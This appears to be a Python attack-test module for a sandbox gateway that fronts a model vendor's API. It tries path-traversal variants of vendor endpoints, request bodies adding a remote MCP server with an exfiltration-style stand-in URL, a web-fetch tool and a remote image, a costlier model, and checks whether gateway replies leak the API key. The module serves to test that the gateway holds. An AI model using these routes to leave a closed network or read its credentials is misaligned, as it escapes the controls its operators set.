"""Calls of the model's vendor by which a closed network is left, or the key read."""

import json
import os
import re
import socket
from http.client import HTTPConnection, HTTPException

from tests.attacks.evil.targets import Targets, attempt

PATHS = "/v1/files", "/v1/messages/../files", "/v1/messages/%2e%2e/files"
PLAIN: dict[str, object] = {
    "model": "m",
    "max_tokens": 9,
    "messages": [{"role": "user", "content": "x"}],
}
URL = "https://example.test/?stolen"
IMAGE = {"type": "image", "source": {"type": "url", "url": URL}}
DEARER: dict[str, object] = {"model": "the-dearest-one"}
BODIES: tuple[dict[str, object], ...] = (
    {"mcp_servers": [{"type": "url", "url": URL, "name": "x"}]},
    {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
    {"messages": [{"role": "user", "content": [IMAGE]}]},
)
"""One of each kind: tests/runner/proxy/attacks.py has all that a vendor takes."""
ANSWERS: list[bytes] = []


def _asked(method: str, path: str, body: object = None) -> int:
    """Ask for a path as it is written; return the status."""
    found = re.match(
        r"http://([^/:]+):(\d+)(.*)", os.environ.get("ANTHROPIC_BASE_URL", "")
    )
    if found is None:
        raise ConnectionError(111, "there is no gateway")
    line = HTTPConnection(found[1], int(found[2]), timeout=300)
    key = os.environ.get("ANTHROPIC_API_KEY") or os.environ.get(
        "ANTHROPIC_AUTH_TOKEN", ""
    )
    told = {"x-api-key": key, "content-type": "application/json"}
    told["anthropic-version"] = "2023-06-01"
    try:
        text = None if body is None else json.dumps(body)
        line.request(method, found[3].rstrip("/") + path, text, told)
        answer = line.getresponse()
        ANSWERS.append(repr(answer.headers.items()).encode() + answer.read())
    except (HTTPException, ValueError, socket.timeout):  # noqa: UP041  by its old name on 3.9
        return 0
    else:
        return answer.status
    finally:
        line.close()


class Refused(OSError):
    """The gateway let nothing through."""


@attempt
def the_vendor_for_more_than_answers(at: Targets) -> str:
    """Ask for what the key may have, for what leads out, for a dearer model."""
    bodies = (*BODIES, DEARER)
    statuses = [
        *(_asked("GET", path) for path in PATHS),
        *(_asked("POST", path, PLAIN) for path in PATHS),
        *(_asked("POST", "/v1/messages", PLAIN | each) for each in bodies),
    ]
    if all(400 <= each < 500 for each in statuses):
        raise Refused
    return ""


@attempt
def a_call_that_is_allowed(at: Targets) -> str:
    """Call the model as an engine does: that it comes in shows that the way is open."""
    _asked("POST", "/v1/messages", PLAIN)
    return ""


@attempt
def a_key_in_an_answer_of_the_gateway(at: Targets) -> str:
    return "read it" if any(map(at.holds, ANSWERS)) else ""
